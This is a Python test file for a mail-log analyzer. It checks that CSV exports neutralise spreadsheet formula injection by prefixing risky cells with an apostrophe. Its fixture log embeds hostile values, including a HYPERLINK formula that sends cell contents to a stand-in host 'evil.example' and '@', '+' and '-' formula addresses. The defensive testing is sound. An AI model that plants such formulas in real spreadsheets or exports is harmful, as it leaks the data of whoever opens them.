"""Issue 11, item 8: CSV cells a spreadsheet would run as a formula get a leading "'"."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from analyzer.cli import app
from analyzer.output import neutralise_csv_array, neutralise_csv_cell, neutralise_csv_frame

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LOG = f"""\
Nov 28 10:05:00 mx1 postfix/smtpd[104]: connect from unknown[198.51.100.9]
Nov 28 10:05:01 mx1 postfix/smtpd[104]: NOQUEUE: reject: RCPT from unknown[198.51.100.9]: 554 5.7.1 \
<x@ours.test>: Relay access denied; from=<+cmd@spam.example> to=<@SUM(1+1)@ours.test> proto=ESMTP helo=<{FORMULA}>
Nov 28 10:05:02 mx1 postfix/smtpd[104]: NOQUEUE: reject: RCPT from unknown[198.51.100.9]: 554 5.7.1 \
<-2+3@ours.test>: Relay access denied; from=<s@spam.example> to=<-2+3@ours.test> proto=ESMTP helo=<@evil>
"""
FIXED = ["--tz", "UTC", "--year", "2026"]
RISKY = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def log(tmp_path: Path) -> str:
    p = tmp_path / "mail.log"
    p.write_text(LOG)
    return str(p)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_neutral(text: str) -> None:
    cells = _cells(text)
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'<") or c.startswith("'@") or c.startswith("'-")
               for c in cells), "the hostile values are not in the output at all"
    for c in cells:
        if c.startswith(RISKY):
            float(c)  # only numbers may start with '-' or '+'; anything else would be a formula


def test_parse_csv_is_neutralised(tmp_path, log):
    """parse -o x.csv: the HELO formula and '@…'/'-…'/'+…' addresses start with "'"."""
    out = tmp_path / "events.csv"
    res = runner.invoke(app, ["parse", log, *FIXED, "-o", str(out)])
    assert res.exit_code == 0, res.output
    text = out.read_text()
    assert "'" + FORMULA in _cells(text)
    _assert_neutral(text)


@pytest.mark.parametrize("to_file", [False, True])
def test_search_csv_is_neutralised(tmp_path, log, to_file):
    """search -f csv (stdout or -o): no cell starts with a formula character."""
    args = ["search", log, *FIXED, "-f", "csv"]
    if to_file:
        args += ["-o", str(tmp_path / "rows.csv")]
    res = runner.invoke(app, args)
    assert res.exit_code == 0, res.output
    text = (tmp_path / "rows.csv").read_text() if to_file else res.stdout
    _assert_neutral(text)
    assert "'-2+3@ours.test" in _cells(text)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("a=1", "a=1"), ("", ""), (None, None), (5, 5),
])
def test_neutralise_cell_and_array_agree(value, expected):
    """The scalar, Arrow and pandas neutralisers give the same cell."""
    assert neutralise_csv_cell(value) == expected
    if isinstance(value, str) or value is None:
        assert neutralise_csv_array(pa.array([value], pa.string())).to_pylist() == [expected]
        assert neutralise_csv_array(pa.array([value], pa.string()).dictionary_encode()).to_pylist() == [expected]
        assert neutralise_csv_array(pa.array([value], pa.large_string())).to_pylist() == [expected]
        import pandas as pd

        got = neutralise_csv_frame(pd.DataFrame({"c": pd.Series([value], dtype="string[pyarrow]")}))["c"].iloc[0]
        assert (got if got is not pd.NA else None) == expected
